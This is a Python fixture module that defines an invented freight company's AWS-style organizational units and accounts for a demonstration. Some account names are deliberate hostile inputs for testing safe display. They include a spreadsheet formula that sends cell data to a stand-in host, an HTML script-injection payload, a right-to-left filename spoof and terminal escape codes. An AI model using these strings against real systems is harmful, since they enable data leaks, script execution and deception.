"""Brackwater Freight, an invented company: its organizational units and its accounts.

Ids are derived from names, not from the seed: the agreement of the demonstration names some
of them, and the same account keeps its id in every run.
"""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from dataclasses import dataclass

ORGANIZATION_NAME = "Brackwater Freight"
ORGANIZATION_ID = "o-bwf7demo42"
ROOT_ID = "r-bw7k"
MANAGEMENT = "management"
STANDARD_SIZE = 60


@dataclass(frozen=True, slots=True)
class UnitEntry:
    """A unit of the company's tree, parents before children."""

    key: str
    name: str
    parent: str | None


@dataclass(frozen=True, slots=True)
class AccountEntry:
    """An account of the company: `key` is stable, `name` is what Organizations shows."""

    key: str
    unit: str
    name: str = ""

    @property
    def shown_name(self) -> str:
        """The account's name as Organizations shows it."""
        return self.name or self.key


UNITS = (
    UnitEntry("root", "Root", None),
    UnitEntry("platform", "Platform", "root"),
    UnitEntry("security", "Security", "platform"),
    UnitEntry("shared", "Shared services", "platform"),
    UnitEntry("finance", "Finance", "root"),
    UnitEntry("workloads", "Workloads", "root"),
    UnitEntry("production", "Production", "workloads"),
    UnitEntry("prod-eu", "Europe", "production"),
    UnitEntry("prod-am", "Americas", "production"),
    UnitEntry("nonprod", "Non-production", "workloads"),
    UnitEntry("dev", "Development", "nonprod"),
    UnitEntry("staging", "Staging", "nonprod"),
    UnitEntry("acquired", "Acquired companies", "root"),
    UnitEntry("pellworm", "Pellworm Couriers", "acquired"),
    UnitEntry("sable", "Sable Coldchain", "acquired"),
    UnitEntry("sandbox", "Sandbox", "root"),
    UnitEntry("closing", "Closing", "root"),
)

# Names that other people chose: none of them may act as a formula, markup or terminal code.
FORMULA_NAME = '=HYPERLINK("https://prize.example/?"&A1,"Your bonus")'
MARKUP_NAME = "<b>Hackday</b><img src=x onerror=alert(1)>"
RIGHT_TO_LEFT_NAME = "invoices-\u202efdp.exe"
EMOJI_NAME = "🚚 Parcel party 🎉"
TERMINAL_NAME = "sable-\x1b[31mred\x1b[0m-team"
LONG_NAME = (
    "Pellworm Couriers - hub and depot systems, moved from the former data centre in Husum "
    "(routing, sorting, customs papers, driver rosters, fuel cards, returns, claims, archive), "
    "owner unknown since 2021"
).ljust(200, ".")

_PROD_EU = (
    "booking", "tracking", "customs", "fleet", "warehouse", "pricing", "driver-app",
    "payments", "invoicing",
)  # fmt: skip
_PROD_AM = ("booking", "tracking", "customs", "fleet", "warehouse", "payments")
_DEV = (
    "booking", "tracking", "customs", "fleet", "warehouse", "pricing", "driver-app", "payments",
)  # fmt: skip
_STAGING = ("booking", "tracking", "customs", "warehouse", "pricing", "payments")
_MORE_TEAMS = (
    "claims", "routing", "loyalty", "returns", "labels", "rosters", "fuel", "quotes", "alerts",
    "maps", "forecast", "docks", "tariffs", "surveys", "partners", "lockers",
)  # fmt: skip


def _named(unit: str, *keys: str) -> tuple[AccountEntry, ...]:
    return tuple(AccountEntry(key, unit) for key in keys)


def _suffixed(unit: str, suffix: str, teams: tuple[str, ...]) -> tuple[AccountEntry, ...]:
    return tuple(AccountEntry(f"{team}-{suffix}", unit) for team in teams)


_STANDARD = (
    AccountEntry(MANAGEMENT, "root", "brackwater-payer"),
    *_named("security", "log-archive", "security-tooling", "audit-reports", "incident-response"),
    *_named(
        "shared",
        *("network-hub", "identity", "ci-cd", "dns", "artifact-store", "observability"),
        "backup-vault",
    ),
    *_named("finance", "billing-exports", "cost-analytics", "treasury-reporting"),
    *_suffixed("prod-eu", "prod-eu", _PROD_EU),
    *_suffixed("prod-am", "prod-am", _PROD_AM),
    *_suffixed("dev", "dev", _DEV),
    *_suffixed("staging", "staging", _STAGING),
    *_named("pellworm", "pellworm-core", "pellworm-web", "pellworm-data"),
    AccountEntry("pellworm-hub", "pellworm", LONG_NAME),
    *_named("sable", "sable-core", "sable-telemetry", "sable-data"),
    AccountEntry("sable-red-team", "sable", TERMINAL_NAME),
    *_named("sandbox", "sandbox-ana", "sandbox-data-science"),
    AccountEntry("sandbox-formula", "sandbox", FORMULA_NAME),
    AccountEntry("sandbox-markup", "sandbox", MARKUP_NAME),
    AccountEntry("sandbox-invoices", "sandbox", RIGHT_TO_LEFT_NAME),
    AccountEntry("sandbox-emoji", "sandbox", EMOJI_NAME),
    *_named("closing", "old-website", "trial-2019"),
)


def account_entries(count: int) -> tuple[AccountEntry, ...]:
    """The company's first `count` accounts; beyond the standard ones more teams are invented.

    Raises:
        ValueError: fewer than the standard number: every situation needs its account.
    """
    if count < STANDARD_SIZE:
        raise ValueError(f"the demonstration needs at least {STANDARD_SIZE} accounts")
    more = _invented()
    return (*_STANDARD, *(next(more) for _ in range(count - STANDARD_SIZE)))


def _invented() -> Iterator[AccountEntry]:
    number = 1
    while True:
        for team in _MORE_TEAMS:
            suffix = "" if number == 1 else f"-{number}"
            for unit in ("prod-eu", "prod-am", "dev", "staging"):
                yield AccountEntry(f"{team}{suffix}-{unit}", unit)
        number += 1


def account_id(key: str) -> str:
    """The twelve digits of an account. Some start with zeros, as in any organization."""
    return f"{int(hashlib.sha256(f'account {key}'.encode()).hexdigest(), 16) % 10**12:012d}"


def unit_id(key: str) -> str:
    """The id of the unit with that key, in the form AWS gives it."""
    if key == "root":
        return ROOT_ID
    return f"ou-{ROOT_ID.removeprefix('r-')}-{hashlib.sha256(key.encode()).hexdigest()[:8]}"
